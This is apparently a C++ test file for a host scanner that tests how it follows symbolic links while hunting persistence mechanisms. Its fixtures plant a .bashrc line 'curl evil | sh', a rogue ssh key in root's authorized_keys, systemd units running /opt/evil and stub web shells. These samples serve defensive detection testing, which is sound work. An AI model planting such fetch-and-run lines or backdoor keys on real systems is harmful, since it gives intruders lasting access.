// Folders that a system has elsewhere, with a link where everybody looks for them.

#include <unistd.h>

#include "tests/agent/scan/tree.h"
#include "tests/agent/user_container.h"

namespace fleetsweep::scan {
namespace {

namespace fs = std::filesystem;
using model::Field;
using model::ObjectKind;
using Names = std::set<std::string>;

class LinksScan : public TreeTest {
 protected:
  void SetUp() override {
    TreeTest::SetUp();
    if (::geteuid() != 0) GTEST_SKIP() << "needs root for links of root's";
    write("/etc/passwd", "root:x:0:0::/root:/bin/sh\nann:x:65534:65534::/home/ann:/bin/sh\n");
  }
  void link(const std::string& target, const std::string& path, uid_t owner = 0) {
    fs::create_directories(at(path).parent_path());
    fs::create_symlink(target, at(path));
    ASSERT_EQ(::lchown(at(path).c_str(), owner, owner), 0);
  }
  void write_program(const std::string& path) {
    write(path, "#!/bin/sh\n");
    fs::permissions(at(path), fs::perms(0755));
  }
  static model::Detection file(const std::string& id, const std::string& scope,
                               const std::string& path) {
    auto result = detection(id, ObjectKind::kFile, {is(Field::kFilePath, path)});
    result.scope.paths = {scope};
    return result;
  }
  static model::Detection entry(const std::string& id, const std::string& kind) {
    return detection(id, ObjectKind::kPersistence, {is(Field::kPersistenceKind, kind)});
  }
  static Names unscannable(const nlohmann::json& result) {
    Names paths;
    for (const std::string path : result["unscannable_paths"])
      paths.insert(path.substr(0, path.find(": ")));
    return paths;
  }
};

TEST_F(LinksScan, AHomeThatAnImageSystemKeepsInVarIsNotLookedAt) {
  link("var/home", "/home");
  link("/var/roothome", "/root");
  link("var/tmp", "/tmp");
  link("../srv/www", "/var/www");
  link("/data/www", "/srv/www");
  write("/var/home/ann/.cache/evil", "x");
  write("/var/home/ann/.bashrc", "curl evil | sh\n");
  write("/var/roothome/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n");
  write("/var/tmp/evil", "x");
  write("/data/www/evil", "x");
  model::Policy policy;
  policy.detections = {file("home", "@home", "/home/ann/.cache/evil"),
                       file("real", "/var/home", "/var/home/ann/.cache/evil"),
                       file("tmp", "/tmp", "/tmp/evil"),
                       file("web", "/var/www", "/var/www/evil"),
                       file("chain", "/srv/www", "/srv/www/evil"),
                       entry("profile", "shell_profile"),
                       entry("key", "authorized_key")};
  const auto result = scan(policy);
  EXPECT_EQ(files(result),
            (Names{"home /var/home/ann/.cache/evil", "real /var/home/ann/.cache/evil",
                   "tmp /var/tmp/evil", "web /data/www/evil", "chain /data/www/evil"}));
  EXPECT_EQ(persistence(result), (Names{"profile curl evil | sh", "key ssh-ed25519 AAAA evil"}));
  EXPECT_EQ(result["unscannable"], 0) << result["unscannable_paths"].dump();
}

TEST_F(LinksScan, WhatLiesBehindALinkOfAUsersIsSilentlyNothing) {
  write("/data/evil", "x");
  write("/opt2/evil.sh", "x\n");
  link("/data", "/var/www", kNobody);
  link("/data", "/var/lib/evil/deep", kNobody);
  link("/opt2/evil.sh", "/etc/profile.d/x.sh", kNobody);
  link("/dev/null", "/etc/profile.d/masked.sh", kNobody);
  link("/nothing", "/etc/profile.d/gone.sh", kNobody);
  link("/data/evil", "/etc/evil");
  model::Policy policy;
  policy.detections = {file("web", "/var/www", "/var/www/evil"),
                       file("deep", "/var/lib/evil/deep/er", "/var/lib/evil/deep/er/evil"),
                       file("file", "/etc/evil", "/etc/evil"), entry("profile", "shell_profile")};
  const auto result = scan(policy);
  EXPECT_EQ(files(result), Names{}) << "a link is another thing than a file";
  EXPECT_EQ(persistence(result), Names{});
  EXPECT_EQ(unscannable(result),
            (Names{"/var/www", "/var/lib/evil/deep/er", "/etc/profile.d/x.sh"}));
  EXPECT_EQ(result["unscannable"], 3);
}

TEST_F(LinksScan, AUserWhoKeepsSettingsElsewhereIsNotLookedAt) {
  write("/home/ann/dotfiles/config/autostart/evil.desktop",
        "[Desktop Entry]\nType=Application\nExec=/evil\n");
  link("dotfiles/config", "/home/ann/.config", kNobody);
  for (const char* folder : {"/home/ann", "/home/ann/dotfiles", "/home/ann/dotfiles/config"})
    ASSERT_EQ(::chown(at(folder).c_str(), kNobody, kNobody), 0);
  model::Policy policy;
  policy.detections = {entry("start", "xdg_autostart")};
  const auto result = scan(policy);
  EXPECT_EQ(result["findings"].size(), 1u) << result.dump(1);
  EXPECT_EQ(result["unscannable"], 0);
}

TEST_F(LinksScan, AStarStandsForNoFolderThatIsALink) {
  const Names planted = {"/data/git/repo/.git/hooks/post-merge",
                         "/home/ann/work/.git/hooks/pre-push", "/opt/app.git/hooks/post-checkout",
                         "/opt/gen/evil", "/opt/up/evil"};
  for (const std::string& path : planted) write_program(path);
  for (const char* folder : {"/home/ann", "/home/ann/work"})
    ASSERT_EQ(::chown(at(folder).c_str(), kNobody, kNobody), 0);
  link("/opt/gen", "/etc/systemd/system-generators");
  link("/opt/up", "/etc/network/if-up.d");
  link("/data/git", "/srv/git");
  link("/opt/app.git", "/srv/app/.git");
  link("work", "/home/ann/own", kNobody);
  link("own", "/home/ann/again", kNobody);
  link("loop", "/home/ann/loop", kNobody);
  link("/data/git", "/home/ann/theirs", kNobody);
  link("/opt", "/home/ann/without-hooks", kNobody);
  model::Policy policy;
  policy.detections = {entry("generator", "systemd_generator"), entry("hook", "git_hook"),
                       entry("network", "networkmanager_dispatcher")};
  const auto result = scan(policy);
  Names found;
  for (const std::string& one : persistence(result)) found.insert(one.substr(one.find('/')));
  EXPECT_EQ(found, planted);
  EXPECT_EQ(result["findings"].size(), planted.size());
  EXPECT_EQ(unscannable(result), Names{"/home/ann/theirs"}) << "what it leads to is root's";
  EXPECT_EQ(result["unscannable"], 1);
}

TEST_F(LinksScan, AUnitHasTheNameOfTheFileThatItsLinkLeadsTo) {
  const std::string starts = "[Service]\nExecStart=/opt/evil\n", waits = "[Timer]\nOnBootSec=1\n";
  write("/opt/a", starts);
  write("/opt/b", waits);
  write("/opt/c", starts);
  write("/opt/d/x.conf", waits);
  link("/opt/a", "/etc/systemd/system/one.service");
  link("/opt/b", "/etc/systemd/system/two.timer");
  link("/opt/c", "/etc/systemd/system/three.service.d/x.conf");
  link("/opt/d", "/etc/systemd/system/four.timer.d");
  model::Policy policy;
  policy.detections = {entry("unit", "systemd_unit"), entry("timer", "systemd_timer")};
  Names found;
  const auto result = scan(policy);
  for (const auto& finding : result["findings"]) {
    const auto& entry = finding["persistence"];
    found.insert(entry["file"].value("path", "") + " " + entry.value("name", "") + " " +
                 entry.value("command", ""));
  }
  EXPECT_EQ(found,
            (Names{"/opt/a one.service /opt/evil", "/opt/b two.timer two.service",
                   "/opt/c three.service /opt/evil", "/opt/d/x.conf four.timer four.service"}));
}

// The agent of ssh that lasts over sessions has such a name.
TEST_F(LinksScan, ALinkToASocketOrADeviceIsUnscannable) {
  write("/etc/passwd", "ann:x:65534:65534::/home/ann:/bin/sh\n");
  fs::create_directories(at("/home/ann/.ssh"));
  fs::create_directories(at("/etc/systemd/system"));
  ASSERT_EQ(::mknod(at("/tmp-socket").c_str(), S_IFSOCK | 0600, 0), 0);
  link("/tmp-socket", "/home/ann/.ssh/agent", kNobody);
  link("/tmp-socket", "/etc/systemd/system/socket.service");
  link("/dev/null", "/etc/systemd/system/masked.service");
  model::Policy policy;
  policy.detections = {entry("hook", "git_hook"), entry("unit", "systemd_unit")};
  const auto result = scan(policy);
  EXPECT_EQ(result["unscannable"], 0) << result["unscannable_paths"];
  EXPECT_TRUE(result["findings"].empty());
}

TEST_F(LinksScan, AFolderOfDropInsThatLeadsToItselfIsWalkedAThousandTimes) {
  write("/etc/systemd/system/more/x.conf", "[Service]\nExecStart=/opt/evil\n");
  link(".", "/etc/systemd/system/a.d");
  link("..", "/etc/systemd/system/b.d");
  for (int i = 0; i < 1002; ++i)
    link("more", "/etc/systemd/system/c" + std::to_string(i) + ".service.d");
  model::Policy policy;
  policy.detections = {entry("unit", "systemd_unit")};
  const auto result = scan(policy);
  EXPECT_EQ(result["unscannable"], 0) << result["unscannable_paths"];
  EXPECT_EQ(result["findings"].size(), 1u);
}

TEST_F(LinksScan, AWebServerServesWhatNobodyLooksAt) {
  for (const char* path : {"/opt/site/shell.php", "/opt/x.php", "/var/www/own/own.php",
                           "/root/secret/evil.php", "/opt/site/deep/er/shell.php"})
    write(path, "<?php\n");
  link("/opt/site/deep", "/var/www/a");
  link("/opt/site", "/var/www/html");
  link("/opt/x.php", "/var/www/own/x.php");
  link("../../var/www", "/opt/site/loop");
  link("..", "/var/www/own/up");
  link("/var/www/own", "/var/www/other", kNobody);
  link("/root/secret", "/srv/www/folder", kNobody);
  link("/root/secret/evil.php", "/srv/www/file.php", kNobody);
  link("/root/secret/evil.php", "/srv/www/file.txt", kNobody);
  ASSERT_EQ(::chown(at("/srv/www").c_str(), kNobody, kNobody), 0);
  model::Policy policy;
  policy.detections = {entry("d", "web_script")};
  const auto result = scan(policy);
  EXPECT_EQ(persistence(result), (Names{"d /opt/site/deep/er/shell.php", "d /opt/site/shell.php",
                                        "d /opt/x.php", "d /var/www/own/own.php"}));
  EXPECT_EQ(result["findings"].size(), 4u) << "each once";
  EXPECT_EQ(unscannable(result), (Names{"/srv/www/file.php", "/srv/www/folder"}));
  EXPECT_EQ(result["unscannable"], 2);
}

TEST_F(LinksScan, AWebRootLeadsToMoreFoldersThanAreFollowed) {
  for (int i = 0; i < 1002; ++i) {
    fs::create_directories(at("/data/" + std::to_string(i)));
    link("/data/" + std::to_string(i), "/var/www/" + std::to_string(i));
  }
  model::Policy policy;
  policy.detections = {entry("d", "web_script")};
  const auto result = scan(policy);
  EXPECT_EQ(result["unscannable"], 1);
  EXPECT_EQ(result["unscannable_paths"][0],
            "/var/www: more than 1000 links to folders: the others were not followed");
}

}  // namespace
}  // namespace fleetsweep::scan
